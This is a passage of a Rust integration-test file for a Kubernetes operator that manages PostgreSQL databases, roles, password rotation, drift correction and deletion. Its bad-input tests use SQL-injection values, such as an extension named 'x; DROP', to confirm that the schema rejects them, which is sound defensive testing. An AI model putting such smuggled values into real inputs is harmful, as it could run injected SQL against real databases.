    let (via_uri, conn) = tokio_postgres::connect(&creds["uri"], tokio_postgres::NoTls)
        .await
        .expect("login with the uri");
    tokio::spawn(conn);
    via_uri
        .batch_execute("CREATE TABLE orders (id serial PRIMARY KEY, item text); INSERT INTO orders (item) VALUES ('first')")
        .await
        .expect("the owner creates a table");

    // Roles: readWrite writes, readOnly reads but cannot write, owner acts as the owner.
    let roles = env.api::<DatabaseRole>();
    roles
        .create(
            &PostParams::default(),
            &role("writer", "app", "app_writer", Privileges::ReadWrite),
        )
        .await
        .unwrap();
    roles
        .create(
            &PostParams::default(),
            &role("reader", "app", "app_reader", Privileges::ReadOnly),
        )
        .await
        .unwrap();
    roles
        .create(
            &PostParams::default(),
            &role("admin", "app", "app_admin", Privileges::Owner),
        )
        .await
        .unwrap();
    for r in ["writer", "reader", "admin"] {
        wait_role_ready(&env, r).await;
    }
    let writer = env.secret("writer-role-credentials").await;
    let reader = env.secret("reader-role-credentials").await;
    let owner2 = env.secret("admin-role-credentials").await;
    assert_eq!(reader["user"], "app_reader");
    assert!(
        reader["password"].len() >= 22
            && reader["password"]
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
    );

    let w = connect(&pg, "app", "app_writer", &writer["password"])
        .await
        .expect("writer logs in");
    w.execute("INSERT INTO orders (item) VALUES ('by writer')", &[])
        .await
        .expect("readWrite inserts");
    let r = connect(&pg, "app", "app_reader", &reader["password"])
        .await
        .expect("reader logs in");
    let n: i64 = r
        .query_one("SELECT count(*) FROM orders", &[])
        .await
        .expect("readOnly reads")
        .get(0);
    assert_eq!(n, 2);
    let denied = r
        .execute("INSERT INTO orders (item) VALUES ('by reader')", &[])
        .await
        .expect_err("readOnly cannot write");
    assert_eq!(
        denied.code().map(|c| c.code()),
        Some("42501"),
        "permission denied: {denied}"
    );
    let denied = r
        .execute("DELETE FROM orders", &[])
        .await
        .expect_err("readOnly cannot delete");
    assert_eq!(denied.code().map(|c| c.code()), Some("42501"));
    let o = connect(&pg, "app", "app_admin", &owner2["password"])
        .await
        .expect("owner-role logs in");
    o.batch_execute("ALTER TABLE orders ADD COLUMN note text")
        .await
        .expect("owner privileges alter the owner's table");

    // A role on the server that is a superuser is never taken over.
    admin
        .batch_execute("CREATE ROLE sneaky SUPERUSER")
        .await
        .unwrap();
    roles
        .create(
            &PostParams::default(),
            &role("sneaky", "app", "sneaky", Privileges::ReadOnly),
        )
        .await
        .unwrap();
    eventually("sneaky refused", WAIT, || async {
        let r = roles.get("sneaky").await.map_err(|e| e.to_string())?;
        match condition(&r.status.unwrap_or_default().conditions, "Ready") {
            Some((s, reason, msg)) if s == "False" && reason == "PrivilegedRole" => Ok(msg),
            other => Err(format!("{other:?}")),
        }
    })
    .await
    .unwrap();

    assert_no_password_leaks(
        &env,
        &pg,
        &[
            creds["password"].clone(),
            writer["password"].clone(),
            reader["password"].clone(),
            owner2["password"].clone(),
        ],
    )
    .await;
}

// ---------------------------------------------------------------------------------------
// 3. Drift
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn drift_is_converged_back() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgdrift").await;
    env.admin_secret(&pg).await;
    let mut db = database(&pg, "shop", "shop", "shop_owner");
    db.spec.extensions = vec![ExtensionSpec {
        name: "pgcrypto".into(),
        ensure: Ensure::Present,
        schema: None,
    }];
    db.spec.schemas = vec![SchemaSpec {
        name: "sales".into(),
        ensure: Ensure::Present,
    }];
    env.api::<Database>()
        .create(&PostParams::default(), &db)
        .await
        .unwrap();
    wait_database_ready(&env, "shop").await;
    let creds = env.secret("shop-db-credentials").await;

    // By hand: another owner, a dropped extension, a schema handed away, a changed password.
    let admin = superuser(&pg).await;
    admin.batch_execute("CREATE ROLE mallory").await.unwrap();
    admin
        .batch_execute("ALTER DATABASE shop OWNER TO mallory")
        .await
        .unwrap();
    admin
        .batch_execute("ALTER ROLE shop_owner PASSWORD 'changed-by-hand'")
        .await
        .unwrap();
    let inside = connect(&pg, "shop", pg.superuser(), pg.password())
        .await
        .unwrap();
    inside
        .batch_execute("DROP EXTENSION pgcrypto; ALTER SCHEMA sales OWNER TO mallory")
        .await
        .unwrap();
    // (The operator resyncs every 2 s, so it may already be repairing; the Events below show
    // what it corrected.)

    eventually(
        "owner, extension, schema owner and password converged",
        WAIT,
        || async {
            let owner: String = admin
                .query_one(
                    "SELECT pg_get_userbyid(datdba) FROM pg_database WHERE datname = 'shop'",
                    &[],
                )
                .await
                .map_err(|e| e.to_string())?
                .get(0);
            let ext: bool = inside
                .query_one(
                    "SELECT EXISTS (SELECT 1 FROM pg_extension WHERE extname = 'pgcrypto')",
                    &[],
                )
                .await
                .map_err(|e| e.to_string())?
                .get(0);
            let schema_owner: String = inside
                .query_one(
                    "SELECT pg_get_userbyid(nspowner) FROM pg_namespace WHERE nspname = 'sales'",
                    &[],
                )
                .await
                .map_err(|e| e.to_string())?
                .get(0);
            let login = connect(&pg, "shop", "shop_owner", &creds["password"])
                .await
                .is_ok();
            if owner == "shop_owner" && ext && schema_owner == "shop_owner" && login {
                Ok(())
            } else {
                Err(format!(
                    "owner={owner} pgcrypto={ext} sales owner={schema_owner} login={login}"
                ))
            }
        },
    )
    .await
    .unwrap();
    env.wait_event(
        "DriftCorrected",
        "ALTER DATABASE \"shop\" OWNER TO \"shop_owner\"",
    )
    .await;
    env.wait_event(
        "DriftCorrected",
        "CREATE EXTENSION IF NOT EXISTS \"pgcrypto\"",
    )
    .await;
    env.wait_event(
        "DriftCorrected",
        "ALTER SCHEMA \"sales\" OWNER TO \"shop_owner\"",
    )
    .await;
    env.wait_event(
        "DriftCorrected",
        "ALTER ROLE \"shop_owner\" WITH PASSWORD <redacted>",
    )
    .await;
    assert_no_password_leaks(&env, &pg, std::slice::from_ref(&creds["password"])).await;
    assert_eq!(
        env.secret("shop-db-credentials").await["password"],
        creds["password"],
        "the Secret's password is the truth"
    );
}

/// Waits until both SQL controllers looked at every object again, twice, and asserts the
/// second look ran no statement; returns `steward_sql_statements_total` of (database,
/// databaserole).
async fn quiet_sql(env: &Env, when: &str) -> (f64, f64) {
    let statements = || {
        (
            env.operator
                .counter("steward_sql_statements_total", "database"),
            env.operator
                .counter("steward_sql_statements_total", "databaserole"),
        )
    };
    env.looked_again("databaserole").await;
    env.looked_again("database").await;
    let before = statements();
    env.looked_again("databaserole").await;
    env.looked_again("database").await;
    assert_eq!(
        statements(),
        before,
        "{when}: resyncs of converged objects ran SQL (database, databaserole)"
    );
    before
}

/// Converged Databases and DatabaseRoles run no SQL at resync (counted by the operator's own
/// `steward_sql_statements_total` over resyncs it ran, not by waiting), and grants still
/// converge: a table created since (not by the owner, so no default privilege covers it) is
/// granted, a write privilege granted by hand to a read-only role is revoked; then it is
/// quiet again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn converged_objects_run_no_sql_at_resync_and_grants_still_converge() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgidle").await;
    env.admin_secret(&pg).await;
    let mut db = database(&pg, "shop", "shop", "shop_owner");
    db.spec.schemas = vec![SchemaSpec {
        name: "sales".into(),
        ensure: Ensure::Present,
    }];
    env.api::<Database>()
        .create(&PostParams::default(), &db)
        .await
        .unwrap();
    wait_database_ready(&env, "shop").await;
    let roles = env.api::<DatabaseRole>();
    for (object, name, privileges) in [
        ("rw", "shop_rw", Privileges::ReadWrite),
        ("ro", "shop_ro", Privileges::ReadOnly),
    ] {
        roles
            .create(
                &PostParams::default(),
                &role(object, "shop", name, privileges),
            )
            .await
            .unwrap();
        wait_role_ready(&env, object).await;
    }
    let (_, roles_before) = quiet_sql(&env, "converged").await;
    assert!(
        roles_before >= 4.0,
        "the roles' first reconciles ran their plans: {roles_before}"
    );

    // By hand: a table the owner did not create, a write grant to the read-only role.
    let inside = connect(&pg, "shop", pg.superuser(), pg.password())
        .await
        .unwrap();
    inside
        .batch_execute(
            "CREATE TABLE sales.orders (id serial PRIMARY KEY); \
             GRANT INSERT ON sales.orders TO shop_ro",
        )
        .await
        .unwrap();
    const PRIVILEGES: &str = "SELECT has_table_privilege('shop_rw', 'sales.orders', 'INSERT'), \
         has_sequence_privilege('shop_rw', 'sales.orders_id_seq', 'UPDATE'), \
         has_table_privilege('shop_ro', 'sales.orders', 'SELECT'), \
         has_table_privilege('shop_ro', 'sales.orders', 'INSERT'), \
         has_sequence_privilege('shop_ro', 'sales.orders_id_seq', 'UPDATE')";
    eventually("grants on the new table converged", WAIT, || async {
        let row = inside
            .query_one(PRIVILEGES, &[])
            .await
            .map_err(|e| e.to_string())?;
        let got: [bool; 5] = std::array::from_fn(|i| row.get(i));
        if got == [true, true, true, false, false] {
            Ok(())
        } else {
            Err(format!(
                "rw insert, rw sequence update, ro select, ro insert, ro sequence update = {got:?}"
            ))
        }
    })
    .await
    .unwrap();
    let (_, roles_after) = quiet_sql(&env, "repaired").await;
    assert!(
        roles_after > roles_before,
        "the repair ran statements: {roles_before} -> {roles_after}"
    );
}

// ---------------------------------------------------------------------------------------
// 4. Rotation
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn password_rotation_on_request_and_on_interval() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgrot").await;
    env.admin_secret(&pg).await;
    env.api::<Database>()
        .create(
            &PostParams::default(),
            &database(&pg, "app", "app", "app_owner"),
        )
        .await
        .unwrap();
    wait_database_ready(&env, "app").await;
    let roles = env.api::<DatabaseRole>();
    roles
        .create(
            &PostParams::default(),
            &role("svc", "app", "svc", Privileges::ReadWrite),
        )
        .await
        .unwrap();
    let before = wait_role_ready(&env, "svc")
        .await
        .status
        .unwrap()
        .password_updated_at;
    let old = env.secret("svc-role-credentials").await["password"].clone();
    connect(&pg, "app", "svc", &old)
        .await
        .expect("the first password works");
    tokio::time::sleep(Duration::from_millis(1100)).await; // passwordUpdatedAt has 1 s resolution

    roles
        .patch(
            "svc",
            &PatchParams::default(),
            &Patch::Merge(json!({"metadata": {"annotations": {ROTATE_ANNOTATION: "1"}}})),
        )
        .await
        .unwrap();
    let new = eventually("rotated password in the Secret", WAIT, || async {
        let p = env.secret("svc-role-credentials").await["password"].clone();
        if p != old {
            Ok(p)
        } else {
            Err("unchanged".to_string())
        }
    })
    .await
    .unwrap();
    eventually("new password works, old does not", WAIT, || async {
        let new_ok = connect(&pg, "app", "svc", &new).await.is_ok();
        let old_err = connect(&pg, "app", "svc", &old)
            .await
            .err()
            .and_then(|e| e.code().map(|c| c.code().to_string()));
        if new_ok && old_err.as_deref() == Some("28P01") {
            Ok(())
        } else {
            Err(format!("new works: {new_ok}, old: {old_err:?}"))
        }
    })
    .await
    .unwrap();
    env.wait_event("PasswordRotated", "on request").await;
    let after = wait_role_ready(&env, "svc")
        .await
        .status
        .unwrap()
        .password_updated_at;
    assert!(
        after > before,
        "passwordUpdatedAt moved: {before:?} → {after:?}"
    );
    // The same annotation value does not rotate again.
    env.looked_again("databaserole").await;
    assert_eq!(
        env.secret("svc-role-credentials").await["password"],
        new,
        "a request is acted on once"
    );

    // Interval rotation (at least 1h): the last rotation is made to look two hours old.
    roles
        .patch(
            "svc",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"passwordRotation": {"interval": "1h"}}})),
        )
        .await
        .unwrap();
    // A reconcile woken by the interval change may still be in flight and write back the
    // timestamp it read before the back-dating, so the back-dating is repeated until the
    // operator acts on it.
    let two_hours_ago =
        k8s_openapi::jiff::Timestamp::now() - k8s_openapi::jiff::SignedDuration::from_hours(2);
    let third = eventually("rotated on the interval", WAIT, || async {
        let p = env.secret("svc-role-credentials").await["password"].clone();
        if p != new {
            return Ok(p);
        }
        let secret = env
            .api::<Secret>()
            .get("svc-role-credentials")
            .await
            .map_err(|e| e.to_string())?;
        let stamp = secret
            .annotations()
            .get(database_operator::role::UPDATED_AT_ANNOTATION);
        if stamp == Some(&two_hours_ago.to_string()) {
            return Err("unchanged, back-dated".to_string());
        }
        env.api::<Secret>()
            .patch(
                "svc-role-credentials",
                &PatchParams::default(),
                &Patch::Merge(json!({"metadata": {"annotations": {
                    database_operator::role::UPDATED_AT_ANNOTATION: two_hours_ago.to_string()
                }}})),
            )
            .await
            .map_err(|e| e.to_string())?;
        Err("unchanged".to_string())
    })
    .await
    .unwrap();
    eventually("interval-rotated password works", WAIT, || async {
        let p = env.secret("svc-role-credentials").await["password"].clone();
        connect(&pg, "app", "svc", &p)
            .await
            .map(|_| ())
            .map_err(|e| e.to_string())
    })
    .await
    .unwrap();
    assert_no_password_leaks(&env, &pg, &[old, new, third]).await;
}

// ---------------------------------------------------------------------------------------
// 5. Delete and Retain
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn delete_drops_and_retain_keeps_and_readopts() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgdel").await;
    env.admin_secret(&pg).await;
    let dbs = env.api::<Database>();
    let admin = superuser(&pg).await;

    // Delete: database, owner role and the role's DatabaseRole are dropped.
    let mut doomed = database(&pg, "doomed", "doomed", "doomed_owner");
    doomed.spec.deletion_policy = DeletionPolicy::Delete;
    dbs.create(&PostParams::default(), &doomed).await.unwrap();
    wait_database_ready(&env, "doomed").await;
    let mut r = role("doomed-ro", "doomed", "doomed_ro", Privileges::ReadOnly);
    r.spec.deletion_policy = DeletionPolicy::Delete;
    env.api::<DatabaseRole>()
        .create(&PostParams::default(), &r)
        .await
        .unwrap();
    wait_role_ready(&env, "doomed-ro").await;
    let creds = env.secret("doomed-db-credentials").await;
    // An open session does not block the drop.
    let session = connect(&pg, "doomed", "doomed_owner", &creds["password"])
        .await
        .unwrap();
    session
        .batch_execute("CREATE TABLE t (x int)")
        .await
        .unwrap();

    // The Database waits for its DatabaseRole: delete both, the role goes first.
    dbs.delete("doomed", &DeleteParams::default())
        .await
        .unwrap();
    env.api::<DatabaseRole>()
        .delete("doomed-ro", &DeleteParams::default())
        .await
        .unwrap();
    wait_gone(&env.api::<DatabaseRole>(), "doomed-ro").await;
    wait_gone(&dbs, "doomed").await;
    assert!(
        !exists(&admin, DB_EXISTS, "doomed").await,
        "database dropped"
    );
    assert!(
        !exists(&admin, ROLE_EXISTS, "doomed_owner").await,
        "owner role dropped"
    );
    assert!(
        !exists(&admin, ROLE_EXISTS, "doomed_ro").await,
        "DatabaseRole's role dropped"
    );
    assert!(
        session.is_closed() || session.simple_query("SELECT 1").await.is_err(),
        "the open session was terminated"
    );
    env.wait_event("Dropped", "dropped database doomed").await;
    wait_gone(&env.api::<Secret>(), "doomed-db-credentials").await;

    // Retain: everything stays; a new object adopts it.
    dbs.create(
        &PostParams::default(),
        &database(&pg, "kept", "kept", "kept_owner"),
    )
    .await
    .unwrap();
    wait_database_ready(&env, "kept").await;
    let creds = env.secret("kept-db-credentials").await;
    let c = connect(&pg, "kept", "kept_owner", &creds["password"])
        .await
        .unwrap();
    c.batch_execute("CREATE TABLE survivor (x int); INSERT INTO survivor VALUES (42)")
        .await
        .unwrap();
    dbs.delete("kept", &DeleteParams::default()).await.unwrap();
    wait_gone(&dbs, "kept").await;
    assert!(
        exists(&admin, DB_EXISTS, "kept").await,
        "Retain keeps the database"
    );
    assert!(
        exists(&admin, ROLE_EXISTS, "kept_owner").await,
        "Retain keeps the role"
    );

    // Another object takes it over only when it asks to (adopt), since the owner recorded on
    // the server is a Database that no longer exists.
    dbs.create(
        &PostParams::default(),
        &database(&pg, "kept-again", "kept", "kept_owner"),
    )
    .await
    .unwrap();
    let m = wait_refused(&dbs, "kept-again", "OwnedByAnother").await;
    assert!(m.contains(&format!("Database {}/kept", env.ns)), "{m}");
    dbs.patch(
        "kept-again",
        &PatchParams::default(),
        &Patch::Merge(json!({"spec": {"adopt": true}})),
    )
    .await
    .unwrap();
    wait_database_ready(&env, "kept-again").await;
    env.wait_event("Adopted", "adopted the existing database kept")
        .await;
    let creds = env.secret("kept-again-db-credentials").await;
    let c = connect(&pg, "kept", "kept_owner", &creds["password"])
        .await
        .expect("the new Secret's password works");
    let x: i32 = c
        .query_one("SELECT x FROM survivor", &[])
        .await
        .unwrap()
        .get(0);
    assert_eq!(x, 42, "the data survived");
}

/// A reconcile that starts from a stale copy of a Database whose cleanup has finished — a
/// new leader's first list served from the API server's watch cache, which `database_chaos`
/// once caught creating a role and a database that nothing would drop — creates nothing: no
/// role, no database, and the admin Secret is not held again by the in-use finalizer.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stale_copy_of_a_deleted_database_creates_nothing() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgstale").await;
    env.admin_secret(&pg).await;
    let dbs = env.api::<Database>();
    let admin = superuser(&pg).await;
    let mut db = database(&pg, "gone", "gone", "gone_owner");
    db.spec.deletion_policy = DeletionPolicy::Delete;
    dbs.create(&PostParams::default(), &db).await.unwrap();
    // What a lagging cache still holds once the cleanup below is over: Ready, finalizer on.
    let stale = wait_database_ready(&env, "gone").await;
    dbs.delete("gone", &DeleteParams::default()).await.unwrap();
    wait_gone(&dbs, "gone").await;
    assert!(!exists(&admin, DB_EXISTS, "gone").await, "database dropped");
    assert!(
        !exists(&admin, ROLE_EXISTS, "gone_owner").await,
        "role dropped"
    );
    let held = |s: &Secret| {
        s.finalizers()
            .iter()
            .any(|f| f == database_operator::database::IN_USE_FINALIZER)
    };
    let secrets = env.api::<Secret>();
    assert!(!held(&secrets.get("admin").await.unwrap()), "released");

    let ctx = Arc::new(steward_core::Context::new(
        env.client.clone(),
        database_operator::NAME,
        database_operator::State::unwatched(database_operator::Options::default()),
    ));
    let result = database_operator::database::reconcile(Arc::new(stale), ctx).await;
    assert!(result.is_ok(), "a stale copy ends quietly: {result:?}");
    assert!(
        !exists(&admin, DB_EXISTS, "gone").await,
        "no database made for a Database that is gone"
    );
    assert!(
        !exists(&admin, ROLE_EXISTS, "gone_owner").await,
        "no role made for a Database that is gone"
    );
    assert!(
        !held(&secrets.get("admin").await.unwrap()),
        "the admin Secret is not held again"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cleanup_blocked_by_owned_objects_explains_and_retries() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgblock").await;
    env.admin_secret(&pg).await;
    env.api::<Database>()
        .create(
            &PostParams::default(),
            &database(&pg, "app", "app", "app_owner"),
        )
        .await
        .unwrap();
    wait_database_ready(&env, "app").await;
    let roles = env.api::<DatabaseRole>();
    let mut r = role("blocker", "app", "blocker", Privileges::ReadWrite);
    r.spec.deletion_policy = DeletionPolicy::Delete;
    roles.create(&PostParams::default(), &r).await.unwrap();
    wait_role_ready(&env, "blocker").await;

    // The role owns a table in a database the operator does not manage.
    let admin = superuser(&pg).await;
    admin
        .batch_execute("CREATE DATABASE elsewhere")
        .await
        .unwrap();
    let other = connect(&pg, "elsewhere", pg.superuser(), pg.password())
        .await
        .unwrap();
    other
        .batch_execute("CREATE TABLE precious (x int); ALTER TABLE precious OWNER TO blocker")
        .await
        .unwrap();

    roles
        .delete("blocker", &DeleteParams::default())
        .await
        .unwrap();
    let message = eventually("the role says why it stays", WAIT, || async {
        let r = roles.get("blocker").await.map_err(|e| e.to_string())?;
        let s = r.status.unwrap_or_default();
        match (condition(&s.conditions, "Ready"), s.phase) {
            (Some((st, reason, msg)), Some(database_operator::crd::ResourcePhase::Deleting))
                if st == "False" && reason == "SqlFailed" =>
            {
                Ok(msg)
            }
            other => Err(format!("{other:?}")),
        }
    })
    .await
    .unwrap();
    assert!(
        message.contains("drop the role") && message.contains("depend"),
        "{message}"
    );
    env.wait_event("SqlFailed", "depend").await;
    env.looked_again("databaserole").await;
    assert!(
        roles.get_opt("blocker").await.unwrap().is_some(),
        "kept while the role cannot be dropped"
    );
    assert!(exists(&admin, ROLE_EXISTS, "blocker").await);

    // Once the table has another owner the retry succeeds.
    other
        .batch_execute("ALTER TABLE precious OWNER TO postgres")
        .await
        .unwrap();
    wait_gone(&roles, "blocker").await;
    assert!(!exists(&admin, ROLE_EXISTS, "blocker").await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn namespace_deletion_drops_first_thanks_to_the_in_use_finalizer() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgns").await;
    env.admin_secret(&pg).await;
    let mut db = database(&pg, "temp", "preview", "preview_owner");
    db.spec.deletion_policy = DeletionPolicy::Delete;
    env.api::<Database>()
        .create(&PostParams::default(), &db)
        .await
        .unwrap();
    wait_database_ready(&env, "temp").await;
    let secret = env.api::<Secret>().get("admin").await.unwrap();
    assert!(
        secret
            .finalizers()
            .iter()
            .any(|f| f == "database.steward.dev/in-use"),
        "the admin Secret is protected while used"
    );
    let admin = superuser(&pg).await;
    assert!(exists(&admin, DB_EXISTS, "preview").await);

    // Deleting the namespace deletes the admin Secret too; the finalizer keeps it readable
    // until the Database has dropped, then releases it, and the namespace goes.
    let namespaces: Api<k8s_openapi::api::core::v1::Namespace> = Api::all(env.client.clone());
    namespaces
        .delete(&env.ns, &DeleteParams::default())
        .await
        .unwrap();
    wait_gone(&namespaces, &env.ns).await;
    assert!(
        !exists(&admin, DB_EXISTS, "preview").await,
        "dropped before the namespace went"
    );
    assert!(!exists(&admin, ROLE_EXISTS, "preview_owner").await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn backup_before_delete_waits_for_the_dump_job() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgbak").await;
    env.admin_secret(&pg).await;
    let dbs = env.api::<Database>();
    let admin = superuser(&pg).await;
    let class = format!("steward-{}", env.ns);
    let mut db = database(&pg, "dumped", "dumped", "dumped_owner");
    db.spec.deletion_policy = DeletionPolicy::Delete;
    db.spec.backup_before_delete = true;
    db.spec.backup = Some(BackupSpec {
        storage_size: None,
        storage_class_name: Some(class.clone()),
        image: None,
    });
    let created = dbs.create(&PostParams::default(), &db).await.unwrap();
    wait_database_ready(&env, "dumped").await;
    dbs.delete("dumped", &DeleteParams::default())
        .await
        .unwrap();

    // The Job cannot run yet: its claim has no volume (no provisioner for the class).
    let job_name = format!("dumped-backup-{}", &created.uid().unwrap()[..8]);
    let job = eventually("dump Job", WAIT, || async {
        env.api::<Job>()
            .get_opt(&job_name)
            .await
            .map_err(|e| e.to_string())?
            .ok_or("not yet".to_string())
    })
    .await
    .unwrap();
    let command = job.spec.unwrap().template.spec.unwrap().containers[0]
        .command
        .clone()
        .unwrap();
    assert_eq!(command[0], "pg_dump");
    let waiting = eventually("status says it waits for the dump", WAIT, || async {
        let d = dbs.get("dumped").await.map_err(|e| e.to_string())?;
        let s = d.status.unwrap_or_default();
        match (condition(&s.conditions, "Ready"), s.backup) {
            (Some((st, reason, msg)), Some(b)) if st == "False" && reason == "WaitingForBackup" => {
                Ok((msg, b))
            }
            other => Err(format!("{other:?}")),
        }
    })
    .await
    .unwrap();
    assert_eq!(waiting.1.job, job_name);
    assert!(!waiting.1.succeeded);
    env.looked_again("database").await;
    assert!(
        exists(&admin, DB_EXISTS, "dumped").await,
        "not dropped while the dump has not succeeded"
    );
    assert!(dbs.get_opt("dumped").await.unwrap().is_some());

    // Give the claim a volume: the pod schedules, kwok "completes" it (it runs nothing), the
    // Job succeeds, and only then the database is dropped.
    volumes(&env.client, &class, 1).await;
    wait_gone(&dbs, "dumped").await;
    let job = env.api::<Job>().get_opt(&job_name).await.unwrap();
    if let Some(job) = job {
        assert!(
            job.status.and_then(|s| s.succeeded).unwrap_or(0) >= 1,
            "the Job succeeded before the drop"
        );
    }
    assert!(
        !exists(&admin, DB_EXISTS, "dumped").await,
        "dropped after the dump succeeded"
    );
    let claim = env
        .api::<PersistentVolumeClaim>()
        .get(&job_name)
        .await
        .expect("the dump's claim outlives the Database");
    assert!(claim.owner_references().is_empty());
    env.wait_event("Dropped", "claim").await;
}

// ---------------------------------------------------------------------------------------
// 6. Server down
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn server_down_during_delete_keeps_the_object_and_explains() {
    let mut pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgdown").await;
    env.admin_secret(&pg).await;
    let dbs = env.api::<Database>();

    // A server that is not there at all: ServerReachable=False with the error, nothing created.
    let mut nowhere = database(&pg, "nowhere", "nowhere", "nowhere_owner");
    nowhere.spec.external.as_mut().unwrap().port = 1;
    dbs.create(&PostParams::default(), &nowhere).await.unwrap();
    let msg = unreachable_message(&env, "nowhere").await;
    assert!(
        msg.contains("127.0.0.1:1") || msg.to_lowercase().contains("connect"),
        "{msg}"
    );
    env.wait_event("ServerUnreachable", "127.0.0.1:1").await;
    dbs.delete("nowhere", &DeleteParams::default())
        .await
        .unwrap(); // Retain: goes at once
    wait_gone(&dbs, "nowhere").await;

    let mut db = database(&pg, "fragile", "fragile", "fragile_owner");
    db.spec.deletion_policy = DeletionPolicy::Delete;
    dbs.create(&PostParams::default(), &db).await.unwrap();
    wait_database_ready(&env, "fragile").await;

    pg.stop().await.expect("stop PostgreSQL");
    dbs.delete("fragile", &DeleteParams::default())
        .await
        .unwrap();
    let (reason, message) = eventually("the object says why it stays", WAIT, || async {
        let d = dbs.get("fragile").await.map_err(|e| e.to_string())?;
        let s = d.status.unwrap_or_default();
        let reachable = condition(&s.conditions, "ServerReachable");
        match (condition(&s.conditions, "Ready"), reachable, s.phase) {
            (
                Some((st, reason, msg)),
                Some((r, _, _)),
                Some(database_operator::crd::ResourcePhase::Deleting),
            ) if st == "False" && r == "False" => Ok((reason, msg)),
            other => Err(format!("{other:?}")),
        }
    })
    .await
    .unwrap();
    assert_eq!(reason, "ServerUnreachable");
    assert!(
        message.contains(&format!("127.0.0.1:{}", pg.port())),
        "{message}"
    );
    env.looked_again("database").await;
    let still = dbs
        .get("fragile")
        .await
        .expect("the object stays while the server is down");
    assert!(
        still
            .finalizers()
            .iter()
            .any(|f| f == "database.steward.dev/database-cleanup")
    );

    pg.start_again().await.expect("start PostgreSQL again");
    wait_gone(&dbs, "fragile").await;
    let admin = superuser(&pg).await;
    assert!(
        !exists(&admin, DB_EXISTS, "fragile").await,
        "dropped once the server was back"
    );
    assert!(!exists(&admin, ROLE_EXISTS, "fragile_owner").await);
}

// ---------------------------------------------------------------------------------------
// 7. Bad input
// ---------------------------------------------------------------------------------------

/// Creates `obj` as raw JSON (so values the Rust types cannot even hold reach the API server)
/// and returns the 422 message.
async fn rejected<K>(api: &Api<K>, obj: serde_json::Value) -> String
where
    K: Resource<DynamicType = ()>
        + Clone
        + serde::de::DeserializeOwned
        + serde::Serialize
        + std::fmt::Debug,
{
    let ar = kube::api::ApiResource::erase::<K>(&());
    let raw: Api<kube::api::DynamicObject> = Api::namespaced_with(
        api.clone().into_client(),
        api.namespace().unwrap_or("default"),
        &ar,
    );
    let obj: kube::api::DynamicObject = serde_json::from_value(obj).unwrap();
    match raw.create(&PostParams::default(), &obj).await {
        Err(kube::Error::Api(s)) if s.code == 422 => s.message,
        other => panic!("expected 422, got {other:?}"),
    }
}

/// Creates the PostgresCluster `obj` as a dry run, which the API server must admit.
async fn admitted(clusters: &Api<PostgresCluster>, obj: serde_json::Value, what: &str) {
    let obj: PostgresCluster = serde_json::from_value(obj).unwrap();
    let dry_run = PostParams {
        dry_run: true,
        ..Default::default()
    };
    clusters
        .create(&dry_run, &obj)
        .await
        .unwrap_or_else(|e| panic!("{what}: refused: {e}"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn schema_rejects_bad_input_and_quoting_defuses_it() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgbad").await;
    let dbs = env.api::<Database>();
    let ext = json!({"host": "127.0.0.1", "port": pg.port(), "adminSecretRef": {"name": "admin"}});
    let db = |spec: serde_json::Value| json!({"apiVersion": "database.steward.dev/v1alpha1", "kind": "Database", "metadata": {"name": "bad"}, "spec": spec});

    let m = rejected(
        &dbs,
        db(json!({"external": ext, "name": EVIL, "owner": "o"})),
    )
    .await;
    assert!(m.contains("spec.name") && m.contains("should match"), "{m}");
    let m = rejected(
        &dbs,
        db(json!({"external": ext, "name": "ok", "owner": EVIL})),
    )
    .await;
    assert!(m.contains("spec.owner"), "{m}");
    let m = rejected(
        &dbs,
        db(json!({"external": ext, "name": "a".repeat(64), "owner": "o"})),
    )
    .await;
    assert!(m.contains("spec.name") && m.contains("63"), "{m}");
    let m = rejected(
        &dbs,
        db(json!({"external": ext, "name": "postgres", "owner": "o"})),
    )
    .await;
    assert!(m.contains("system databases"), "{m}");
    let m = rejected(
        &dbs,
        db(json!({"external": ext, "name": "ok", "owner": "pg_monitor"})),
    )
    .await;
    assert!(m.contains("reserved role name"), "{m}");
    // Steward's own roles (the pooler's auth role reads every login role's verifier).
    let m = rejected(
        &dbs,
        db(json!({"external": ext, "name": "ok", "owner": "steward_pooler"})),
    )
    .await;
    assert!(
        m.contains("reserved role name") && m.contains("steward_"),
        "{m}"
    );
    let m = rejected(&dbs, db(json!({"name": "ok", "owner": "o"}))).await;
    assert!(m.contains("exactly one of clusterRef and external"), "{m}");
    let m = rejected(
        &dbs,
        db(json!({"external": ext, "clusterRef": {"name": "c"}, "name": "ok", "owner": "o"})),
    )
    .await;
    assert!(m.contains("exactly one of clusterRef and external"), "{m}");
    let m = rejected(&dbs, db(json!({"external": ext, "name": "ok", "owner": "o", "extensions": [{"name": "x; DROP"}]}))).await;
    assert!(m.contains("extensions[0].name"), "{m}");
    let m = rejected(&dbs, db(json!({"external": ext, "name": "ok", "owner": "o", "schemas": [{"name": "s"}, {"name": "s"}]}))).await;
    assert!(m.contains("schema names must be unique"), "{m}");
    let m = rejected(
